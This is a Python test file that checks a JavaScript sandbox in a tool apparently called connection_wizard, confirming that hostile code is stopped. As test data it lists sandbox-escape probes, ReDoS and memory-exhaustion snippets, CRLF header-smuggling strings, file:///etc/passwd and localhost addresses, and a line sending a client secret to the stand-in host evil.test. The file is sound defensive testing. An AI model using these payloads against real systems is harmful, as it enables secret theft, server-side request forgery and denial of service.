"""Code that means harm: it gets no files, no processes, no other hosts, and an end within time and memory.

Before the engine had a process of its own, several of these took gigabytes, one could not be stopped at all, and one
ended the whole program.
"""

from __future__ import annotations

import asyncio
import sys
from pathlib import Path
from typing import Any

import pytest

from connection_wizard import itself
from connection_wizard.engine import child, process, runner
from connection_wizard.engine.runner import CodeError, CodeNotRun, run_code
from connection_wizard.http.client import HttpClient
from connection_wizard.http.server import ServerResponse
from tests.by_day import by_day
from tests.engine.reaches import listing, nowhere, within
from tests.frozen import frozen
from tests.helpers import posix
from tests.oauth.scripted import ScriptedProvider, answer
from tests.viasocket.conftest import provider
from tests.waiting import AGES, HANG

__all__ = ["provider"]

SECRET = "s3cr3t-of-the-hostile-test"
DATA = {"clientsecret": SECRET}


async def run(source: str, **named: Any) -> Any:
    return (await run_code(source, DATA, nowhere, listing("acme.test"), **named)).value


TOO_LONG = {
    "a loop": "while (true) {}",
    "a loop of promises": "while (true) await null;",
    "a pattern of a library": "return _.trim('a'.repeat(1e5) + '!', new RegExp('(a+)+$').source) && /(.*)*b/.test('a'.repeat(40));",
    "a page without an end": "let page = ''; for (;;) page += cheerio.load('<p>'.repeat(1000)).html().length;",
    "prime numbers": "for (;;) crypto.pbkdf2Sync('a', 'b', 1e9, 64, 'sha512');",
    "promises that make promises": "const f = () => Promise.resolve().then(f); await f();",
    "a regular expression": "return /^(a+)+$/.test('a'.repeat(60) + 'b');",
    "a list that is never done": "return new Array(4294967295).reverse().length;",
    "a number": "return String(3n ** 40000000n).length;",
    "what is thrown": "throw { get message() { while (true) {} } };",
    "what is returned": "return { toJSON() { while (true) {} } };",
    "what waits": "return { then() { while (true) {} } };",
    "after a pause": "await new Promise((then) => setTimeout(then, 1)); while (true) {}",
}


@pytest.mark.parametrize("name", by_day(TOO_LONG, each=2))
@pytest.mark.asyncio
async def test_endless_computing_is_ended(name: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(process, "SLICE_SECONDS", 1.0)
    async with asyncio.timeout(HANG):  # else it ended nothing
        with pytest.raises(CodeError, match=r"computed for longer|more memory"):
            await run(TOO_LONG[name])


TOO_MUCH = {
    "lists": "const a = []; while (true) a.push(new Array(1e6).fill(1));",
    "buffers": "const a = []; while (true) a.push(new Uint8Array(5e7).fill(1));",
    "Buffers": "const a = []; while (true) a.push(Buffer.alloc(5e7).fill(1));",
    "a long text": "return 'x'.repeat(2 ** 29 - 100);",
    "many long texts": "return Array(60).fill('x'.repeat(5e6));",
    "an endless list": "return new URLSearchParams({ *[Symbol.iterator]() { while (true) yield ['a', 'b']; } }).toString();",
    "long texts in a request": "return (await axios.post('https://acme.test/', 'x'.repeat(2e8))).data;",
    "many requests at once": "for (;;) axios.get('https://acme.test/').catch(() => 0);",
}


@pytest.mark.parametrize("name", by_day(TOO_MUCH, each=2, beginning=1))
@pytest.mark.asyncio
async def test_endless_memory_is_ended_and_costs_this_program_nothing(name: str) -> None:
    before = posix.peak()
    with pytest.raises(CodeError, match=r"more memory|more data|computed for longer"):
        await run(TOO_MUCH[name])
    assert posix.peak() - before < 100 * 1024 * 1024


BROKEN = {
    "toJSON of everything": ("Object.prototype.toJSON = () => 7; return {};", "broke the engine"),
    "a library that lies": (
        "Promise.resolve = () => 7; Object.entries = () => 7; return await axios.get('https://acme.test/');",
        ".",
    ),
    "a list that lies": ("Array.prototype.splice = () => 7; return 1;", "broke the engine"),
    "a circle": ("const a = {}; a.a = a; return a;", "no JSON"),
    "a big number": ("return 10n;", "no JSON"),
    "an error without words": ("throw { toString() { throw 1; } };", "without words"),
    "a deep list": ("let a = []; for (let i = 0; i < 1e5; i++) a = [a]; return a;", "nested too deeply|no JSON"),
    "endless recursion": ("const f = () => f(); return f();", "call stack"),
    "out of the function": ("return 1; }; while (true) {} {", "threw"),
    "no promise that ends": ("await new Promise(() => 0);", "never comes"),
    "no promise of ours": ("Promise.prototype.then = () => 0; await axios.get('https://acme.test/');", "."),
}


@pytest.mark.parametrize("name", BROKEN)
@pytest.mark.asyncio
async def test_a_broken_language_is_told_of_in_a_sentence(name: str) -> None:
    source, told = BROKEN[name]
    with pytest.raises((CodeError, AssertionError), match=told):
        await run(source)


HARMLESS = {
    "libraries": (
        "_.get = axios.get = Buffer.from = jwt.sign = crypto.createHash = () => 'mine'; return [_.get(), axios.get(), Buffer.from()];",
        ["mine", "mine", "mine"],
    ),
    "pollution": (
        "_.merge({}, JSON.parse('{ `__proto__`: { `url`: 1 } }'.replaceAll('`', String.fromCharCode(34)))); return {}.url ?? 'clean';",
        "clean",
    ),
    "JSON": ("JSON.stringify = () => 'junk'; JSON.parse = () => 7; return [1];", [1]),
    "prototypes": (
        "Object.prototype.done = true; Object.prototype.asked = [{ kind: 'request' }]; Object.prototype.missing = 'x'; return 1;",
        1,
    ),
    "half a character": ("return { a: '\\ud800', b: '\\\\ud800 \\u{1f989}' };", {"a": "�", "b": "\\ud800 🦉"}),
    "not a number": ("return [NaN, Infinity, undefined];", [None, None, None]),
}


@pytest.mark.parametrize("name", HARMLESS)
@pytest.mark.asyncio
async def test_what_the_code_changes_stays_in_its_engine(name: str) -> None:
    source, value = HARMLESS[name]
    assert await run(source) == value
    assert await run("return [1, { a: 'b' }];") == [1, {"a": "b"}]  # the next one has an engine of its own


NOTHING_THERE = [
    "return [typeof process, typeof require, typeof module, typeof global, typeof Deno, typeof WebAssembly];",
    "return Array(6).fill(typeof this?.constructor?.constructor('return typeof process')().process);",
    "return Array(6).fill(typeof axios.get.constructor('return typeof process')().process);",
    "return [axios, _.get, crypto.createHash, Buffer.from, moment, fetch].map((one) => one.constructor('return typeof process + typeof require')().slice(0, 9));",
    "return Array(6).fill(typeof (await axios.get('data:,x')).request?.socket);",
    "return Array(6).fill((() => 0).constructor('return typeof process')());",
    "return Array(6).fill((async () => 0).constructor('return 1') && typeof globalThis.process);",
    "return [typeof Atomics, typeof SharedArrayBuffer, typeof Worker, typeof XMLHttpRequest, typeof WebSocket, typeof print];",
]


@pytest.mark.parametrize("source", NOTHING_THERE, ids=range(len(NOTHING_THERE)))
@pytest.mark.asyncio
async def test_there_is_nothing_to_get_out_by(source: str) -> None:
    assert await run(source) == ["undefined"] * 6


@pytest.mark.asyncio
async def test_what_talks_to_this_program_cannot_be_found() -> None:
    names = await run("return Object.getOwnPropertyNames(globalThis).concat(Object.keys(context)).sort();")
    assert not [name for name in names if "bridge" in name or name in ("look", "answer", "start")]
    with pytest.raises(CodeError, match="threw"):
        await run("return await import('fs');")


OTHER_HOSTS = [
    "return await axios.get('https://evil.test/?s=' + context.authData.clientsecret);",
    "return await axios.get('https://acme.test.evil.test/');",
    "return await axios.get('https://acme.test@evil.test/');",
    "return await axios.get('https://evilacme.test/');",
    "return await axios.get('//evil.test/', { baseURL: 'https://acme.test' });",
    "return await fetch('https://evil.test/');",
    "return await axios.get('http://127.0.0.1:1/');",
    "return await axios.get('https://[::1]/');",
    "return await axios.get('https://acme.test\\\\@evil.test/');",
]


@pytest.mark.parametrize("source", OTHER_HOSTS)
@pytest.mark.asyncio
async def test_no_other_host_is_asked(source: str) -> None:
    with pytest.raises(CodeError, match=r"no host of this connection|Invalid URL|fetch failed") as told:
        await run(source)
    assert SECRET not in str(told.value)


ODD_ADDRESSES = [
    "file:///etc/passwd",
    "javascript:1",
    "ftp://acme.test/",
    "https://acme.test:99999/",
    "https://acme.test\\\\@evil.test/",
]


@pytest.mark.parametrize("address", ODD_ADDRESSES)
@pytest.mark.asyncio
async def test_no_other_kind_of_address_is_asked(address: str) -> None:
    with pytest.raises(CodeError, match=r"Invalid URL|Unsupported protocol"):
        await run(f"return await axios.get('{address}');")
    with pytest.raises(CodeError, match=r"Invalid URL|Only HTTP|Only absolute"):
        await run(f"return await fetch('{address}');")


@pytest.mark.asyncio
async def test_what_stands_in_an_address_itself_is_asked_of_nobody() -> None:
    """As axios does it: such an address is its own answer."""
    assert await run("return String((await axios.get('data:text/plain,x')).data);") == "x"
    with pytest.raises(CodeError, match="Only absolute URLs"):
        await run("return await fetch('data:text/plain,x');")


@pytest.mark.asyncio
async def test_a_redirect_to_another_host_is_not_followed(provider: ScriptedProvider) -> None:
    """What code puts into the query of an allowed host must not go on from there."""
    elsewhere = provider.origin.replace("127.0.0.1", "localhost")
    provider.on("/out", ServerResponse(302, (("Location", f"{elsewhere}/caught?s=1"),)))
    provider.on("/in", ServerResponse(302, (("Location", "/caught"),)))
    provider.on("/caught", answer({"got": "there"}))
    get = "return (await axios.get('ORIGIN/PATH', { validateStatus: null })).status;".replace("ORIGIN", provider.origin)
    async with HttpClient() as client:
        out = await run_code(get.replace("PATH", "out"), {}, client.send, within(provider.origin))
        assert out.value == 302
        assert not provider.to("/caught")
        home = await run_code(get.replace("PATH", "in"), {}, client.send, within(provider.origin))
        assert home.value == 200


@pytest.mark.parametrize(
    "config",
    [
        "{ headers: { 'A\\r\\nHost': 'evil.test' } }",
        "{ method: 'GET / HTTP/1.1\\r\\nHost: evil.test\\r\\n' }",
    ],
)
@pytest.mark.asyncio
async def test_nothing_is_smuggled_into_a_request(provider: ScriptedProvider, config: str) -> None:
    provider.on("/", answer({}))
    async with HttpClient() as client:
        with pytest.raises(CodeError, match="cannot be sent"):
            await run_code(
                f"return (await axios.request({{ url: '{provider.origin}/', ...{config} }})).data;",
                {},
                client.send,
                within(provider.origin),
            )
    assert not provider.requests


@pytest.mark.asyncio
async def test_a_header_stays_one_header(provider: ScriptedProvider) -> None:
    """axios takes a line's end out of a value; with https of Node itself it cannot be sent."""
    provider.on("/", answer({}))
    value = "'b\\r\\nHost: evil.test'"
    async with HttpClient() as client:
        source = f"return (await axios.get('{provider.origin}/', {{ headers: {{ A: {value} }} }})).status;"
        assert (await run_code(source, {}, client.send, within(provider.origin))).value == 200
        [request] = provider.requests
        assert (request.header("A"), request.header("Host")) == ("bHost: evil.test", provider.origin[7:])
        with pytest.raises(CodeError, match=r"not a legal HTTP header value|cannot be sent"):
            await run_code(
                f"return (await fetch('{provider.origin}/', {{ headers: {{ A: {value} }} }})).status;",
                {},
                client.send,
                within(provider.origin),
            )


@pytest.mark.asyncio
async def test_an_answer_that_breaks_off_is_no_answer(provider: ScriptedProvider) -> None:
    provider.on("/", ServerResponse(200, (("Content-Length", "2"), ("Content-Encoding", "gzip")), b"no"))
    async with HttpClient() as client:
        source = (
            f"try {{ return (await axios.get('{provider.origin}/')).data; }} catch (e) {{ return [e.isAxiosError]; }}"
        )
        assert (await run_code(source, {}, client.send, within(provider.origin))).value == [True]


@pytest.mark.asyncio
async def test_pauses_run_beside_requests_and_end(provider: ScriptedProvider, monkeypatch: pytest.MonkeyPatch) -> None:
    provider.on("/", answer({"a": 1}))
    race = f"""
        const late = new Promise((_, no) => setTimeout(() => no(new Error('late')), 9e6));
        return (await Promise.race([axios.get('{provider.origin}/'), late])).data;
    """
    monkeypatch.setattr(runner, "TOTAL_SECONDS", AGES)
    async with HttpClient() as client, asyncio.timeout(HANG):
        assert (await run_code(race, {}, client.send, within(provider.origin))).value == {"a": 1}
    with pytest.raises(CodeError, match="things at once"):
        await run("for (let i = 0; i < 5000; i++) setTimeout(() => 0, 1e9); await new Promise(() => 0);")
    monkeypatch.setattr(runner, "TOTAL_SECONDS", 0.3)
    with pytest.raises(CodeError, match=r"longer than 0\.3 seconds"):
        await run("for (;;) await new Promise((then) => setTimeout(then, 20));")


@pytest.mark.asyncio
async def test_the_process_ends_with_the_run(monkeypatch: pytest.MonkeyPatch) -> None:
    made: list[process.EngineProcess] = []

    class Watched(process.EngineProcess):
        def __init__(self) -> None:
            super().__init__()
            made.append(self)

    monkeypatch.setattr(runner, "EngineProcess", Watched)
    assert await run("return 1;") == 1
    task = asyncio.ensure_future(run("while (true) await new Promise((then) => setTimeout(then, 60000));"))
    await asyncio.sleep(1)  # whatever it is doing by then
    task.cancel()
    with pytest.raises(asyncio.CancelledError):
        await task
    assert all(one._process.poll() is not None for one in made)


@pytest.mark.asyncio
async def test_codes_of_one_connection_share_a_process_and_nothing_else(monkeypatch: pytest.MonkeyPatch) -> None:
    made: list[process.EngineProcess] = []

    class Watched(process.EngineProcess):
        def __init__(self) -> None:
            super().__init__()
            made.append(self)

    monkeypatch.setattr(runner, "EngineProcess", Watched)
    monkeypatch.setattr(process, "SLICE_SECONDS", 1.0)
    async with runner.one_process():
        await run(
            "Array.prototype.map = JSON.stringify = 7; globalThis.left = 'here'; setTimeout(() => { throw 1; }, 1); return 1;"
        )
        assert await run("return [typeof left, [1].map((one) => one + 1)];") == ["undefined", [2]]
        with pytest.raises(CodeError, match="threw"):
            await run("throw new Error('x');")
        with pytest.raises(CodeNotRun):
            await run("return crypto.subtle;")
        assert len(made) == 1
        with pytest.raises(CodeError, match="computed for longer"):
            await run("while (true) {}")
        assert made[0]._process.poll() is not None
        assert await run("return 2;") == 2
        assert len(made) == 2
        await run("globalThis.kept = new Uint8Array(9e7).fill(1); return 1;")  # more than may be left by others
        assert await run("return typeof kept;") == "undefined"
    assert all(one._process.poll() is not None for one in made)


@pytest.mark.asyncio
async def test_a_process_that_is_gone_is_made_anew() -> None:
    async with runner.one_process():
        assert await run("return 1;") == 1
        kept = runner._KEPT.get()
        assert kept is not None
        assert kept.engine is not None
        kept.engine._process.kill()
        assert await run("return 2;") == 2


@pytest.mark.parametrize(
    "command",
    [
        [sys.executable, "-c", "pass"],
        [sys.executable, "-I", "-S", str(child.__file__)],  # without the packages, and so without V8
        ["/no/such/interpreter"],
    ],
)
@pytest.mark.asyncio
async def test_without_an_engine_nothing_is_said_to_have_run(
    command: list[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(itself, "command", lambda part: command)
    with pytest.raises(CodeNotRun, match="no engine"):
        await run("return 1;")


@pytest.mark.asyncio
async def test_a_frozen_program_is_its_own_engine(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    frozen(monkeypatch, tmp_path)
    assert itself.command(itself.ENGINE)[1:] == ["--engine"]
    assert await run("return 7;") == 7
